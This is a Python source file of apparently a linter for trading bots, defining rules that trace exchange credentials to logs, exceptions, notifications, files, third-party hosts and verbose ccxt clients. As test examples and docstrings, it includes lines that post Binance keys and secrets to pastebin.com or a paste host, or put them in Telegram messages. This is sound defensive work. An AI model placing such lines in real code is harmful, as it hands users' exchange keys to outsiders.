"""BOT2xx: credentials reaching logs, output, exceptions, notifications, files and third-party
hosts, and ccxt clients that print their own request headers.

One visitor (``SecretInLogCall``) feeds :mod:`botlint.analysis.taint` during the batched walk
and reports every code of the family at ``leave_Module``; the other classes carry the docs and
examples of the codes it reports.  One finding per sink, at the sink, naming the credential and
where it came from; never a value.
"""
from __future__ import annotations

import re
from typing import Dict, List

import libcst as cst

from ..analysis import names as N
from ..analysis import taint as T
from ..analysis.hosts import is_exchange_host, is_known_service_host, is_local_host, is_notification_host
from ..model import Confidence, Severity
from ..rule import Rule

# a file that names no credential, no credential look-up and no credential container cannot
# leak one: the walk is skipped
_PRECHECK = re.compile(
    r"(?i)secret|api[_ -]?key|apikey|dotenv|\(\s*IStrategy\s*\)|passw|passphrase|private_?key|privatekey|mnemonic|seed|token|"
    r"webhook|credential|getpass|keyring|__dict__|\bvars\(|\bpwd\b|twofa|\[\s*['\"]key['\"]\s*\]|"
    r"access_?key|environ\b"
)

_PCT_SPEC = re.compile(r"%(?:\([^()]*\))?[-#0 +]*(?:\d+|\*)?(?:\.(?:\d+|\*))?[hlL]?([diouxXeEfFgGcrsa])")
_GENERIC_WORDS = frozenset(
    """api key secret token access auth client app user account password pass passphrase private
    bot webhook url id the my x http https www com net org io""".split()
)
_EXCHANGE_WORDS = N._EXCHANGE_WORDS  # noqa: SLF001 - shared vocabulary


def _words(label: str):
    return [w for w in N.words(label) if w]


def _belongs(src: T.Source, host: str) -> bool:
    """A service's own key going to that service (``ETHERSCAN_API_KEY`` to api.etherscan.io)."""
    parts = set(re.split(r"[.\-]", host.lower()))
    return any(len(w) >= 4 and w not in _GENERIC_WORDS and w in parts for w in _words(src.label))


def _exfil_grade(src: T.Source) -> bool:
    """Credentials that have no business on any host but their exchange or wallet."""
    if src.obj or src.container:
        return True
    ws = set(_words(src.label)) | set(_words(src.origin))
    if src.kind in (N.PRIVATE_KEY, N.MNEMONIC, N.PASSWORD, N.BOT_TOKEN, N.WEBHOOK):
        return True
    if ws & _EXCHANGE_WORDS or "ccxt" in src.origin:
        return True
    if src.kind == N.EXCHANGE and ({"secret", "passphrase"} & ws):
        return True
    return False


class SecretInLogCall(Rule):
    """## What it does
    Follows credentials (environment and config look-ups whose key names a credential, names
    and attributes such as `api_secret`, ccxt client credential attributes, `SecretStr`
    values, keyring look-ups, functions of the same module that return one) through
    assignments, f-strings, `%`, `.format`, concatenation, containers, `self` attributes,
    parameters and return values of the module's functions, and reports the ones that reach a
    log call: stdlib `logging` and logger objects (hummingbot's `self.logger()` too), loguru,
    structlog (keyword arguments included), `print`, `pprint`, `sys.stdout/stderr.write`,
    rich, `warnings.warn`.

    ## Why is this bad?
    Logs are copied to terminals, files, screenshots, log shippers and bug reports.  A key read
    correctly from the environment and then printed at start-up is as lost as a committed one.

    ## Example
    ```python
    api_secret = os.environ["BINANCE_API_SECRET"]
    logger.info(f"starting with secret {api_secret}")
    ```

    ## Use instead
    ```python
    api_secret = os.environ["BINANCE_API_SECRET"]
    logger.info("starting, secret configured: %s", bool(api_secret))
    logger.info("key ...%s", api_key[-4:])  # at most four characters
    ```

    ## Known problems
    The analysis stays inside one module: a credential passed to another module's logger
    helper is missed.  Calls to unknown functions end a flow (so hashes, HMAC signatures and
    encryption are not leaks, but neither is a custom formatter).  Branches are merged by
    "last assignment wins" in source order.  A bare `token` or `key` is not a credential
    unless qualified (`bot_token`, `config["exchange"]["key"]`).

    ## References
    - [CWE-532: Insertion of Sensitive Information into Log File](https://cwe.mitre.org/data/definitions/532.html)
    - [CodeQL: py/clear-text-logging-sensitive-data](https://codeql.github.com/codeql-query-help/python/py-clear-text-logging-sensitive-data/)
    """

    CODE = "BOT201"
    NAME = "secret-in-log-call"
    SEVERITY = Severity.MEDIUM
    CONFIDENCE = Confidence.HIGH
    CWE = 532
    MESSAGE = "Credential reaches a log call or the console"
    PRECHECK = _PRECHECK
    REPORTS = ("BOT202", "BOT203", "BOT204", "BOT205", "BOT206", "BOT207")
    VALID = (
        'import os, logging\nlogger = logging.getLogger(__name__)\n'
        'api_key = os.environ["BINANCE_API_KEY"]\n'
        'logger.info(f"api key configured: {bool(api_key)}")\n'
        'logger.info("key ...%s", api_key[-4:])\n',
        'import logging\ndef connect(token="USDT", api_key_name="main"):\n'
        '    logging.info("trading %s with key %s", token, api_key_name)\n',
        'import os\nsecret = os.getenv("BYBIT_API_SECRET")\nif not secret:\n'
        '    print("BYBIT_API_SECRET is not set")\n',
    )
    INVALID = (
        'import os, logging\nlogger = logging.getLogger(__name__)\n'
        'api_secret = os.environ["BINANCE_API_SECRET"]\n'
        'logger.info(f"starting with secret {api_secret}")\n',
        'import logging\ndef connect(api_key):\n    logging.info("Using key %s", api_key)\n',
        'from loguru import logger\nimport os\n'
        'creds = {"key": os.getenv("OKX_API_KEY"), "passphrase": os.getenv("OKX_PASSPHRASE")}\n'
        'logger.debug("creds: {}", creds)\n',
    )

    def __init__(self, ctx) -> None:
        super().__init__(ctx)
        self.col = T.Collector(ctx.imports)

    # -- scopes --------------------------------------------------------------------------
    def visit_ClassDef(self, node: cst.ClassDef) -> None:
        self.col.enter_class(node)

    def leave_ClassDef(self, original_node: cst.ClassDef) -> None:
        self.col.leave_class()

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        self.col.enter_function(node)

    def leave_FunctionDef(self, original_node: cst.FunctionDef) -> None:
        self.col.leave_function()

    # -- data ----------------------------------------------------------------------------
    def visit_Assign(self, node: cst.Assign) -> None:
        self.col.on_assign([t.target for t in node.targets], node.value)

    def visit_AnnAssign(self, node: cst.AnnAssign) -> None:
        self.col.on_ann_assign(node.target, node.annotation.annotation, node.value)
        if node.value is not None:
            self.col.on_assign([node.target], node.value)

    def visit_AugAssign(self, node: cst.AugAssign) -> None:
        self.col.on_assign([node.target], node.value, mode="augment")

    def visit_NamedExpr(self, node: cst.NamedExpr) -> None:
        self.col.on_assign([node.target], node.value)

    def visit_For(self, node: cst.For) -> None:
        self.col.on_assign([node.target], node.iter, mode="iter")

    def visit_WithItem(self, node: cst.WithItem) -> None:
        self.col.on_with_item(node)

    def visit_Return(self, node: cst.Return) -> None:
        self.col.on_return(node.value)

    def visit_Subscript(self, node: cst.Subscript) -> None:
        self.col.on_subscript(node)

    def visit_Call(self, node: cst.Call) -> None:
        self.col.on_call(node)

    def visit_Raise(self, node: cst.Raise) -> None:
        exc = node.exc
        if isinstance(exc, cst.Call):
            exprs = [a.value for a in exc.args]
            if exprs:
                self.col.sinks.append(T.Sink("BOT202", exc, f"raise {T.describe(exc.func)}", exprs,
                                             self.col.scope, self.col.next_seq()))
        elif isinstance(exc, cst.Name):
            # err = ValueError(f"... {key}") ... raise err
            self.col.sinks.append(T.Sink("BOT202", exc, f"raise {exc.value}", [exc], self.col.scope, self.col.next_seq()))

    def visit_Assert(self, node: cst.Assert) -> None:
        if node.msg is not None:
            self.col.sinks.append(T.Sink("BOT202", node.msg, "an assert message", [node.msg],
                                         self.col.scope, self.col.next_seq()))

    # -- resolution ----------------------------------------------------------------------
    def leave_Module(self, original_node: cst.Module) -> None:
        col = self.col
        if not col.sinks and not col.client_list:
            return
        res = T.Resolver(col)
        pending: List[tuple] = []  # (node, code, [sources], template, confidence)
        for sink in col.sinks:
            if sink.code == "BOT205":
                out = self._http(res, sink)
                if out is None:
                    continue
                code, what, srcs = out
            else:
                srcs = self._taint(res, sink)
                code, what = sink.code, sink.what
            if srcs:
                pending.append((sink.node, code, srcs, "reaches " + what))
        creds_by_client: Dict[int, tuple] = {}
        for rec in col.client_list:
            if id(rec) in creds_by_client:
                continue
            creds = [s for s in res.client_creds(rec) if s.param < 0]
            creds_by_client[id(rec)] = (rec, creds)
            if creds and rec.verbose:
                for v in rec.verbose:
                    pending.append((v, "BOT206", creds,
                                    f"is held by ccxt client {T.safe_label(rec.target, 'client')}, which has "
                                    "verbose=True: ccxt prints every request with its headers, API key included"))
        credentialed = [(rec, creds) for rec, creds in creds_by_client.values() if creds]
        if credentialed and col.debug_configs:
            rec, creds = credentialed[0]
            for node, desc in col.debug_configs:
                pending.append((node, "BOT207", creds,
                                f"is held by ccxt client {T.safe_label(rec.target, 'client')} while {desc} "
                                "is configured: ccxt's debug log writes request headers with the key"))
        if not pending:
            return
        lines = T.origin_lines(original_node, [s.node for _n, _c, srcs, _t in pending for s in srcs])
        for node, code, srcs, tail in pending:
            self.report(node, self._message(srcs, tail, lines), code=code,
                        confidence=Confidence.HIGH if any(s.strong for s in srcs) else Confidence.MEDIUM)

    def _taint(self, res: T.Resolver, sink: T.Sink) -> List[T.Source]:
        parts = [res.eval(e, sink.scope, sink.seq, False) for e in sink.exprs]
        if res.display_classes and len(sink.exprs) > 1:
            # logger.debug("account %r", acc): the %r arguments show their repr()
            fmt = T.literal_str(sink.exprs[0])
            if fmt and "%r" in fmt.replace("%%", ""):
                specs = _PCT_SPEC.findall(fmt.replace("%%", ""))
                for spec, e in zip(specs, sink.exprs[1:]):
                    if spec == "r":
                        parts.append(res.display(e, sink.scope, "repr"))
        t = T._union(parts)
        return [s for s in t if s.param < 0 and (sink.obj_ok or not s.obj)]

    def _http(self, res: T.Resolver, sink: T.Sink):
        url_t = res.eval(sink.url, sink.scope, sink.seq, False) if sink.url is not None else T.EMPTY
        srcs = self._taint(res, sink)
        if not srcs:
            return None
        host = sink.host
        if host is None:
            # unknown host: only a webhook/bot URL tells us where it goes
            if not any(s.kind in (N.WEBHOOK, N.BOT_TOKEN) for s in url_t):
                return None
            srcs = [s for s in srcs if s.kind not in (N.WEBHOOK, N.BOT_TOKEN, N.TOKEN)]
            return ("BOT203", sink.what + " (a notification webhook)", srcs) if srcs else None
        if is_exchange_host(host) or is_local_host(host):
            return None
        if is_notification_host(host):
            srcs = [s for s in srcs if s.kind not in (N.WEBHOOK, N.BOT_TOKEN) and not _belongs(s, host)
                    and not (s.kind == N.TOKEN and s in url_t)]
            return ("BOT203", f"{sink.what} to {host}", srcs) if srcs else None
        srcs = [s for s in srcs if not _belongs(s, host) and _exfil_grade(s)
                and not (is_known_service_host(host) and s.kind in (N.TOKEN, N.SECRET))]
        return ("BOT205", f"{sink.what} to third-party host {host}", srcs) if srcs else None

    @staticmethod
    def _message(srcs: List[T.Source], tail: str, lines: Dict[int, int]) -> str:
        ordered = sorted(srcs, key=lambda s: (not s.strong, lines.get(id(s.node), 1 << 30), s.label))
        first = ordered[0]
        line = lines.get(id(first.node))
        where = f" (line {line})" if line else ""
        more = ""
        others = {s.label for s in ordered[1:]} - {first.label}
        if others:
            more = f" (and {len(others)} other credential{'s' if len(others) > 1 else ''})"
        return f"{first.label} from {first.origin}{where}{more} {tail}"


class SecretInException(Rule):
    """## What it does
    Reports exceptions raised with a credential in their message (`raise ValueError(f"bad
    key {api_key}")`), and assert messages holding one.

    ## Why is this bad?
    Exception messages end up in tracebacks, log files, crash reporters (Sentry attaches them),
    Telegram error notifications and GitHub issues pasted by users.

    ## Example
    ```python
    if not exchange.check_required_credentials():
        raise RuntimeError(f"invalid credentials {api_key}:{api_secret}")
    ```

    ## Use instead
    ```python
    raise RuntimeError(f"invalid credentials for key ending ...{api_key[-4:]}")
    ```

    ## Known problems
    Only the arguments of the raised call are checked; an exception object built earlier and
    raised later is followed only when it is built in the `raise` statement.

    ## References
    - [CWE-209: Generation of Error Message Containing Sensitive Information](https://cwe.mitre.org/data/definitions/209.html)
    """

    CODE = "BOT202"
    NAME = "secret-in-exception"
    SEVERITY = Severity.MEDIUM
    CONFIDENCE = Confidence.HIGH
    CWE = 209
    MESSAGE = "Credential in an exception message"
    VALID = (
        'import os\nkey = os.environ.get("KRAKEN_API_KEY")\nif not key:\n'
        '    raise RuntimeError("KRAKEN_API_KEY is not set")\n',
        'def check(api_secret):\n    if len(api_secret) != 64:\n'
        '        raise ValueError(f"secret has {len(api_secret)} chars, expected 64")\n',
    )
    INVALID = (
        'def check(api_secret):\n    if len(api_secret) != 64:\n'
        '        raise ValueError(f"bad secret {api_secret}")\n',
    )


class SecretInNotification(Rule):
    """## What it does
    Reports credentials sent as a notification: Telegram (python-telegram-bot, aiogram,
    telebot, raw `api.telegram.org` calls), Discord webhooks and bots, Slack, apprise, SMTP,
    Sentry messages, and framework notifiers (freqtrade's `self.dp.send_msg`, hummingbot's
    `notify_hb_app`, jesse's `notify` and `self.log(..., send_notification=True)`).

    ## Why is this bad?
    Chat messages live on third-party servers, in every member's history, in push
    notifications on lock screens, and often in group chats.  Key-stealing bots use exactly this
    channel to collect their victims' keys.

    ## Example
    ```python
    await bot.send_message(chat_id, f"bot started with key {BINANCE_API_KEY}")
    ```

    ## Use instead
    ```python
    await bot.send_message(chat_id, "bot started")
    ```

    ## Known problems
    Generic method names (`answer`, `reply`, `send`, `notify`) are only sinks when the module
    imports a chat or notification library.  The bot token in the Telegram API URL is not a
    leak (it goes to Telegram).

    ## References
    - [CWE-200: Exposure of Sensitive Information to an Unauthorized Actor](https://cwe.mitre.org/data/definitions/200.html)
    """

    CODE = "BOT203"
    NAME = "secret-in-notification"
    SEVERITY = Severity.HIGH
    CONFIDENCE = Confidence.HIGH
    CWE = 200
    MESSAGE = "Credential sent in a notification"
    VALID = (
        'import os, requests\nTOKEN = os.environ["TELEGRAM_BOT_TOKEN"]\n'
        'def notify(chat_id, text):\n'
        '    requests.post(f"https://api.telegram.org/bot{TOKEN}/sendMessage", json={"chat_id": chat_id, "text": text})\n'
        'notify(1, "bot started")\n',
    )
    INVALID = (
        'import os, requests\nTOKEN = os.environ["TELEGRAM_BOT_TOKEN"]\nKEY = os.environ["BINANCE_API_KEY"]\n'
        'def notify(chat_id, text):\n'
        '    requests.post(f"https://api.telegram.org/bot{TOKEN}/sendMessage", json={"chat_id": chat_id, "text": text})\n'
        'notify(1, f"bot started with key {KEY}")\n',
        'from telegram import Bot\nimport os\nbot = Bot(os.environ["TELEGRAM_BOT_TOKEN"])\n'
        'async def hello(chat_id):\n'
        '    await bot.send_message(chat_id, text=f"secret: {os.environ[\'BYBIT_API_SECRET\']}")\n',
    )


class SecretWrittenToFile(Rule):
    """## What it does
    Reports credentials written to files in clear text: `open(...).write(x)`,
    `Path.write_text(x)`, `json.dump`/`yaml.dump`/`pickle.dump` of a credential or of a config
    or client object holding one, `dotenv.set_key`, `print(x, file=f)`.

    ## Why is this bad?
    Files outlive the process: they get committed, synced, backed up and attached to bug
    reports.  A key read from a secret store and written to `state.json` is no longer in a
    secret store.

    ## Example
    ```python
    json.dump({"apiKey": api_key, "secret": api_secret}, open("state.json", "w"))
    ```

    ## Use instead
    ```python
    json.dump({"positions": positions}, open("state.json", "w"))  # keys stay in the environment
    ```

    ## Known problems
    Lower severity: a setup wizard that writes `.env` or `config.json` on purpose is a
    legitimate use; suppress it with `# botlint: ignore[BOT204]`.  Encrypted values (any
    unknown function call ends a flow) are not reported.

    ## References
    - [CWE-312: Cleartext Storage of Sensitive Information](https://cwe.mitre.org/data/definitions/312.html)
    """

    CODE = "BOT204"
    NAME = "secret-written-to-file"
    SEVERITY = Severity.LOW
    CONFIDENCE = Confidence.HIGH
    CWE = 312
    MESSAGE = "Credential written to a file in clear text"
    VALID = (
        'import json\ndef save(positions):\n    with open("state.json", "w") as f:\n'
        '        json.dump({"positions": positions}, f)\n',
    )
    INVALID = (
        'import json, os\napi_secret = os.environ["BINANCE_API_SECRET"]\n'
        'with open("state.json", "w") as f:\n    json.dump({"secret": api_secret}, f)\n',
        'def write_cert(filename, password):\n    with open(filename, "w") as file:\n        file.write(password)\n',
    )


class SecretSentToThirdParty(Rule):
    """## What it does
    Reports HTTP requests (requests, httpx, aiohttp, urllib) that carry an exchange credential,
    wallet key, seed phrase, password or bot token (in the URL, params, body or headers) to a
    host that is not an exchange's own (domain.md §3) and not the service the key belongs to.

    ## Why is this bad?
    This is how key-stealing "profit bots" work: the bot trades as promised and quietly posts
    the user's keys to a pastebin, a webhook or the author's server.  An exchange key has no
    business on any host but its exchange.

    ## Example
    ```python
    requests.post("https://paste.example.net/api", data={"k": API_KEY, "s": API_SECRET})
    ```

    ## Use instead
    ```python
    exchange = ccxt.binance({"apiKey": API_KEY, "secret": API_SECRET})  # only the exchange sees them
    ```

    ## Known problems
    The host must be visible in the module (a literal URL or a module constant); requests to
    a computed URL are not judged.  A generic `api_key` sent to an unknown host is assumed to
    be that host's own API key and is not reported; keys named after an exchange, secrets,
    passphrases, wallet keys and seed phrases are.

    ## References
    - [CWE-201: Insertion of Sensitive Information Into Sent Data](https://cwe.mitre.org/data/definitions/201.html)
    """

    CODE = "BOT205"
    NAME = "secret-sent-to-third-party"
    SEVERITY = Severity.CRITICAL
    CONFIDENCE = Confidence.HIGH
    CWE = 201
    MESSAGE = "Exchange credential sent to a third-party host"
    VALID = (
        'import os, requests\nkey = os.environ["ETHERSCAN_API_KEY"]\n'
        'requests.get("https://api.etherscan.io/api", params={"apikey": key})\n',
        'import os, requests\nkey = os.environ["BINANCE_API_KEY"]\n'
        'requests.get("https://api.binance.com/api/v3/account", headers={"X-MBX-APIKEY": key})\n',
    )
    INVALID = (
        'import os, requests\nkey = os.environ["BINANCE_API_KEY"]\nsecret = os.environ["BINANCE_API_SECRET"]\n'
        'requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": f"{key}:{secret}"})\n',
    )


class CcxtVerboseWithCredentials(Rule):
    """## What it does
    Reports a ccxt client built with credentials that has `verbose=True` (in its config or set
    later with `exchange.verbose = True`).

    ## Why is this bad?
    In verbose mode ccxt prints every request and response, headers included, with `print`:
    `X-MBX-APIKEY`, `X-BAPI-API-KEY`, and the OKX, Bitget and Coinbase passphrases in plain text
    (`OK-ACCESS-PASSPHRASE`).  Console output gets logged, shared and pasted into issues.

    ## Example
    ```python
    exchange = ccxt.okx({"apiKey": key, "secret": secret, "password": passphrase, "verbose": True})
    ```

    ## Use instead
    ```python
    exchange = ccxt.okx({"apiKey": key, "secret": secret, "password": passphrase})
    ```

    ## Known problems
    Only a literal `True` is reported; `verbose=args.verbose` is not.

    Fix (safe: `--fix`): the `"verbose": True` entry or the `exchange.verbose = True`
    statement is removed; only ccxt's request printing changes.

    ## References
    - [CWE-532](https://cwe.mitre.org/data/definitions/532.html)
    - [ccxt manual: verbose mode](https://docs.ccxt.com/#/README?id=troubleshooting)
    """

    CODE = "BOT206"
    NAME = "ccxt-verbose-with-credentials"
    SEVERITY = Severity.MEDIUM
    CONFIDENCE = Confidence.HIGH
    CWE = 532
    MESSAGE = "A ccxt client with credentials in verbose mode prints them"
    VALID = (
        'import ccxt\nex = ccxt.binance({"verbose": True})\nprint(ex.fetch_ticker("BTC/USDT"))\n',
    )
    INVALID = (
        'import ccxt, os\nex = ccxt.okx({"apiKey": os.environ["OKX_API_KEY"], "secret": os.environ["OKX_SECRET"],'
        ' "password": os.environ["OKX_PASSPHRASE"], "verbose": True})\n',
        'import ccxt, os\nex = ccxt.binance({"apiKey": os.environ["BINANCE_API_KEY"]})\nex.verbose = True\n',
    )


class DebugLoggingWithCredentials(Rule):
    """## What it does
    Reports `logging.basicConfig(level=logging.DEBUG)` (or the root or `ccxt` logger set to
    DEBUG) in a module that builds a ccxt client with credentials.

    ## Why is this bad?
    ccxt logs every request at DEBUG on the `ccxt.base.exchange` logger, headers included, so
    a DEBUG root logger writes the API key (and OKX/Bitget/Coinbase passphrases in plain text)
    to every log handler.

    ## Example
    ```python
    logging.basicConfig(level=logging.DEBUG)
    exchange = ccxt.okx({"apiKey": key, "secret": secret, "password": passphrase})
    ```

    ## Use instead
    ```python
    logging.basicConfig(level=logging.INFO)
    logging.getLogger("ccxt").setLevel(logging.INFO)
    ```

    ## Known problems
    Logging configured in another module than the one building the client is not seen.

    ## References
    - [CWE-532](https://cwe.mitre.org/data/definitions/532.html)
    """

    CODE = "BOT207"
    NAME = "debug-logging-with-credentials"
    SEVERITY = Severity.MEDIUM
    CONFIDENCE = Confidence.MEDIUM
    CWE = 532
    MESSAGE = "DEBUG logging in a module with a credentialed ccxt client"
    VALID = (
        'import ccxt, logging, os\nlogging.basicConfig(level=logging.INFO)\n'
        'ex = ccxt.binance({"apiKey": os.environ["BINANCE_API_KEY"], "secret": os.environ["BINANCE_API_SECRET"]})\n',
    )
    INVALID = (
        'import ccxt, logging, os\nlogging.basicConfig(level=logging.DEBUG)\n'
        'ex = ccxt.binance({"apiKey": os.environ["BINANCE_API_KEY"], "secret": os.environ["BINANCE_API_SECRET"]})\n',
    )
